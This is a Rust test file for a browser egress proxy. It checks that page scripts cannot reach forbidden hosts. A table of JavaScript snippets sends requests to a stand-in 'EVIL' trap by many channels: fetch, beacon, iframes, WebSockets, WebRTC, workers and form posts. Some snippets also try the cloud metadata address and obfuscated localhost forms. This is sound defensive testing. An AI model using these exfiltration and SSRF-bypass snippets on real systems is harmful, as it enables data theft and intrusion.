//! Everything a page can send by goes through the proxy and is judged there (S-146 … S-151).

use crate::world::{LONG, Other, World};
use reins_browser::{Browser, LaunchOptions};
use reins_egress::{Range, Reason};
use reins_testing::{Page, Site};
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpListener, TcpStream, UdpSocket};

/// Ways of sending to `EVIL`, `HOST` (its host and port) and `UDP` (another port that only takes datagrams). Each
/// may fail; none may stop the next. An `await` waits until the browser has said no.
const WAYS: &[(&str, &str)] = &[
    ("fetch", "await fetch(EVIL+'fetch',{mode:'no-cors'})"),
    ("post", "await fetch(EVIL+'post',{method:'POST',mode:'no-cors',body:'x',keepalive:true})"),
    (
        "xhr",
        "await new Promise(r=>{let x=new XMLHttpRequest();x.open('GET',EVIL+'xhr');x.onloadend=r;x.send()})",
    ),
    ("beacon", "navigator.sendBeacon(EVIL+'beacon','x')"),
    ("image", "await new Promise(r=>{let i=new Image();i.onload=i.onerror=r;i.src=EVIL+'image'})"),
    ("script", "await el('script',{src:EVIL+'script'})"),
    ("style", "await el('link',{rel:'stylesheet',href:EVIL+'style'})"),
    ("preload", "await el('link',{rel:'preload',as:'image',href:EVIL+'preload'})"),
    ("prefetch", "await el('link',{rel:'prefetch',href:EVIL+'prefetch'})"),
    ("modulepreload", "await el('link',{rel:'modulepreload',href:EVIL+'module'})"),
    (
        "preconnect",
        "document.head.append(Object.assign(document.createElement('link'),{rel:'preconnect',href:EVIL}))",
    ),
    (
        "dns-prefetch",
        "document.head.append(Object.assign(document.createElement('link'),{rel:'dns-prefetch',href:'//secret.private.example'}))",
    ),
    ("frame", "await el('iframe',{src:EVIL+'frame'})"),
    ("frame that redirects", "await el('iframe',{src:'/to-evil'})"),
    (
        "image that redirects",
        "await new Promise(r=>{let i=new Image();i.onload=i.onerror=r;i.src='/to-evil'})",
    ),
    ("object", "await el('object',{data:EVIL+'object'})"),
    (
        "video",
        "await new Promise(r=>{let v=document.createElement('video');v.onerror=r;v.src=EVIL+'video'})",
    ),
    ("font", "await new FontFace('x','url('+EVIL+'font)').load()"),
    ("import", "await import(EVIL+'import.js')"),
    (
        "socket",
        "await new Promise(r=>{let s=new WebSocket('ws://'+HOST+'/socket');s.onclose=s.onerror=r})",
    ),
    (
        "event source",
        "await new Promise(r=>{let s=new EventSource(EVIL+'events');s.onerror=()=>{s.close();r()}})",
    ),
    (
        "worker",
        "await new Promise(r=>{let w=new Worker(URL.createObjectURL(new Blob(['fetch(\"'+EVIL+'worker\",{mode:\"no-cors\"}).finally(()=>postMessage(1))'])));w.onmessage=w.onerror=r})",
    ),
    (
        "shared worker",
        "await new Promise(r=>{let w=new SharedWorker('/shared.js');w.port.onmessage=r;w.onerror=r})",
    ),
    (
        "form in a frame",
        "let i=document.createElement('iframe');i.name='t';document.body.append(i);let f=document.createElement('form');f.action=EVIL+'form';f.target='t';document.body.append(f);f.submit();await new Promise(r=>i.onload=r)",
    ),
    ("name of a private address", "await fetch('http://x.private.example/',{mode:'no-cors'})"),
    ("metadata", "await fetch('http://169.254.169.254/latest/',{mode:'no-cors'})"),
    (
        "this machine by name",
        "await fetch(EVIL.replace('127.0.0.1','localhost')+'name',{mode:'no-cors'})",
    ),
    ("this machine, IPv6", "await fetch(EVIL.replace('127.0.0.1','[::1]')+'v6',{mode:'no-cors'})"),
    (
        "this machine, mapped",
        "await fetch(EVIL.replace('127.0.0.1','[::ffff:127.0.0.1]')+'mapped',{mode:'no-cors'})",
    ),
    (
        "this machine, decimal",
        "await fetch(EVIL.replace('127.0.0.1','2130706433')+'decimal',{mode:'no-cors'})",
    ),
    ("no address", "await fetch(EVIL.replace('127.0.0.1','0.0.0.0')+'zero',{mode:'no-cors'})"),
    ("the proxy itself", "await fetch('http://PROXY/',{mode:'no-cors'})"),
    ("web transport", "let t=new WebTransport('https://127.0.0.1:'+UDP+'/x');await t.ready"),
    (
        "call",
        "let c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:'+UDP},{urls:'turn:127.0.0.1:'+UDP,username:'u',credential:'p'},{urls:'turn:'+HOST+'?transport=tcp',username:'u',credential:'p'}]});c.createDataChannel('x');await c.setLocalDescription();await new Promise(r=>{c.onicegatheringstatechange=()=>c.iceGatheringState=='complete'&&r();if(c.iceGatheringState=='complete')r()})",
    ),
    ("service worker", "await navigator.serviceWorker.register('/sw.js')"),
];

/// A port that counts connections, and one that counts datagrams.
struct Traps {
    tcp: SocketAddr,
    udp: SocketAddr,
    connected: Arc<AtomicUsize>,
    datagrams: Arc<AtomicUsize>,
}

impl Traps {
    async fn set() -> Self {
        let tcp = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
        let udp = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
        let traps = Self {
            tcp: tcp.local_addr().unwrap(),
            udp: udp.local_addr().unwrap(),
            connected: Arc::default(),
            datagrams: Arc::default(),
        };
        let count = traps.connected.clone();
        tokio::spawn(async move {
            while tcp.accept().await.is_ok() {
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        let count = traps.datagrams.clone();
        tokio::spawn(async move {
            let mut datagram = [0; 2_048];
            while udp.recv_from(&mut datagram).await.is_ok() {
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        traps
    }

    /// Connections and datagrams so far, after one of each of our own got through.
    async fn sprung(&self) -> (usize, usize) {
        let before = (&self.connected, &self.datagrams);
        let before = (before.0.load(Ordering::SeqCst), before.1.load(Ordering::SeqCst));
        let mut own = TcpStream::connect(self.tcp).await.unwrap();
        own.shutdown().await.unwrap();
        let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
        socket.send_to(b"own", self.udp).await.unwrap();
        while self.connected.load(Ordering::SeqCst) == before.0
            || self.datagrams.load(Ordering::SeqCst) == before.1
        {
            tokio::task::yield_now().await;
        }
        let after = (&self.connected, &self.datagrams);
        (after.0.load(Ordering::SeqCst) - 1, after.1.load(Ordering::SeqCst) - 1)
    }

    /// Pages of an app that send to the traps by every way.
    fn pages(&self, app: &Site, proxy: &str) {
        let (host, udp) = (self.tcp, self.udp.port());
        let evil = format!("http://{host}/");
        let ways: String = WAYS
            .iter()
            .map(|(name, way)| {
                let way = way.replace("PROXY", proxy);
                format!("await attempt({name:?},async()=>{{{way}}});")
            })
            .collect();
        let script = format!(
            "const EVIL='{evil}',HOST='{host}',UDP='{udp}';\
             const el=(t,a)=>new Promise(r=>{{let e=Object.assign(document.createElement(t),a);e.onload=e.onerror=r;\
             setTimeout(r,500);document.body.append(e)}});\
             async function attempt(name,way){{let end='done';\
             try{{await Promise.race([way(),new Promise((_,no)=>setTimeout(()=>no('late'),1500))])}}\
             catch(e){{end=String(e)}}\
             await hit('way-'+encodeURIComponent(name+': '+end.slice(0,80)))}}\
             (async()=>{{{ways}await hit('all')}})()"
        );
        app.set("/", Page::html(&format!("<body>app<script>{script}</script>")));
        app.set("/to-evil", Page::redirect(302, &format!("{evil}redirected")));
        let shared = format!(
            "onconnect=e=>fetch('{evil}shared',{{mode:'no-cors'}}).catch(()=>0).then(()=>e.ports[0].postMessage(1))"
        );
        app.set("/shared.js", Page::raw("text/javascript", shared));
        let worker =
            format!("fetch('{evil}sw',{{mode:'no-cors'}});fetch('/hit?sw',{{method:'POST'}})");
        app.set("/sw.js", Page::raw("text/javascript", worker));
    }
}

/// How each way ended, as its page says.
fn ends(app: &Site) -> String {
    let seen = app.seen();
    let ways = seen.iter().filter_map(|seen| seen.path.strip_prefix("/hit?way-"));
    ways.map(|way| way.replace("%20", " ").replace("%3A", ":")).collect::<Vec<_>>().join("\n")
}

/// S-146, S-147, S-150: whatever a page sends by, nothing reaches what its session may not reach.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn s146_s150_no_channel_of_a_page_goes_around_the_proxy() {
    let traps = Traps::set().await;
    let host = traps.tcp.to_string();
    let world = World::start(|_: &Site| Vec::new(), Other::Closed).await;
    traps.pages(&world.app, &world.egress.address().to_string());
    world.go("/").await;
    assert!(world.app.wait_hit("all", LONG * 3).await, "{}", ends(&world.app));
    println!("{}", ends(&world.app));
    assert_eq!(traps.sprung().await, (0, 0), "{:?}", world.session.refusals());
    assert_eq!(world.app.hits("sw"), 0, "the service worker ran");
    // Refused by the proxy, not merely lost: one refusal at least for each kind of host.
    let refusals = world.session.refusals();
    let has = |host: &str, reason| {
        refusals.kinds.iter().any(|kind| kind.host == host && kind.reason == reason)
    };
    assert!(has(&host, Reason::Special(Range::Loopback)), "{refusals:?}");
    assert!(has("x.private.example:80", Reason::Special(Range::Private)), "{refusals:?}");
    assert!(has("169.254.169.254:80", Reason::Special(Range::LinkLocal)), "{refusals:?}");
    assert!(has(&host.replace("127.0.0.1", "localhost"), Reason::ReservedName), "{refusals:?}");
    let at = refusals.kinds.iter().find(|kind| kind.host == host).unwrap();
    assert!(at.count >= 15, "{refusals:?}");
    world.end().await;
}

/// The traps catch a browser that has no proxy, connections and datagrams alike.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_traps_are_sprung_without_the_proxy() {
    let traps = Traps::set().await;
    let app = Site::start([]).await.unwrap();
    traps.pages(&app, "127.0.0.1:9");
    let browser = Browser::launch(LaunchOptions {
        headless: true,
        no_sandbox: nix::unistd::geteuid().is_root(),
        ..LaunchOptions::default()
    })
    .await
    .unwrap();
    let tab = browser.tabs()[0].clone();
    crate::support::open(&browser, &tab, &app.url("/")).await;
    assert!(app.wait_hit("all", LONG * 3).await, "{}", ends(&app));
    let (connected, datagrams) = traps.sprung().await;
    println!("{connected} connections, {datagrams} datagrams\n{}", ends(&app));
    assert!(connected >= 5 && datagrams >= 1, "{connected} connections, {datagrams} datagrams");
    assert!(app.wait_hit("sw", LONG).await, "the service worker runs");
    browser.close().await;
}

/// S-146, S-151: the browser logs in over the pipe, and its app and public resources load, in workers as well.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn s146_s151_the_app_and_public_resources_load_through_the_proxy() {
    let world = World::start(|_: &Site| Vec::new(), Other::Closed).await;
    let body = "<link rel=stylesheet href='http://fonts.example/a.css'><script src='http://cdn.example/b.js'></script>\
        <iframe src='http://maps.example/c'></iframe><script>\
        (async()=>{await fetch('/api?1');await fetch('http://api.example/d',{credentials:'omit'});\
        await fetch('http://api.example/e',{credentials:'include',mode:'no-cors'});\
        let w=new Worker('/w.js');await new Promise(r=>w.onmessage=r);\
        let s=new SharedWorker('/s.js');await new Promise(r=>s.port.onmessage=r);\
        await hit('all')})()</script>";
    world.app.set("/", Page::html(body));
    world.app.set("/api", Page::raw("text/plain", "ok"));
    world.app.set(
        "/w.js",
        Page::raw("text/javascript", "fetch('http://cdn.example/f').then(()=>postMessage(1))"),
    );
    let shared = "onconnect=e=>fetch('http://cdn.example/g').then(()=>e.ports[0].postMessage(1))";
    world.app.set("/s.js", Page::raw("text/javascript", shared));
    world.go("/").await;
    assert!(
        world.app.wait_hit("all", LONG).await,
        "{:?} {:?}",
        world.app.seen(),
        world.session.refusals()
    );
    for (path, host) in [
        ("/a.css", "fonts.example"),
        ("/b.js", "cdn.example"),
        ("/c", "maps.example"),
        ("/d", "api.example"),
        ("/e", "api.example"),
        ("/f", "cdn.example"),
        ("/g", "cdn.example"),
    ] {
        let seen = world.other.seen();
        assert!(seen.iter().any(|s| s.path == path && s.host == host), "{path}: {seen:?}");
    }
    assert_eq!(world.session.refusals().total(), 0, "{:?}", world.session.refusals());
    assert!(world.session.usage().passed >= 10, "{:?}", world.session.usage());
    world.end().await;
}
